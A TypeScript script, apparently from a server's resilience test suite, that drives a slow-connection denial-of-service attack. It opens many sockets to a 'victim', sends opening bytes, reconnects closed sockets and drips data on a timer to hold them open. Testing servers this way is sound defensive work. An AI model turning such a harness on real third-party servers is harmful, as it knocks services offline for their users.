import { setTimeout as wait } from 'node:timers/promises';
import type { Socket } from 'node:net';
import { dial, headOf } from '../soak/client.ts';
import { attacks } from './attacks.ts';
import type { Victim } from './attacks.ts';

/** `attacker.ts NAME COUNT VICTIM`: opens that many connections of one kind, says so, and keeps at it until it is ended. */
const [name = '', count = '0', json = '{}'] = process.argv.slice(2);
const victim = JSON.parse(json) as Victim;
const attack = attacks[name]!;
const head = (first: string, ...headers: string[]): string => headOf(victim, first, ...headers);
const begin = attack.begin(victim, head);
const drip = typeof attack.drip === 'function' ? attack.drip(victim, head) : attack.drip;
const open = new Set<Socket>();

function one(): void {
  const socket = dial(victim);
  open.add(socket);
  if (attack.reads !== false) socket.resume();
  if (attack.again) socket.on('data', () => socket.write(begin, 'latin1'));
  socket.write(begin, 'latin1');
  socket.once('close', () => {
    open.delete(socket);
    setTimeout(one, 200);
  });
}

for (let i = 0; i < Number(count); i += 1) {
  one();
  if (i % 100 === 99) await wait(10);
}
console.log('ready');
// A socket that is not read keeps no process running: the timer does, also where it has nothing to send
setInterval(() => {
  if (drip !== undefined) for (const socket of open) socket.write(drip, 'latin1');
}, attack.dripMs ?? 2000);
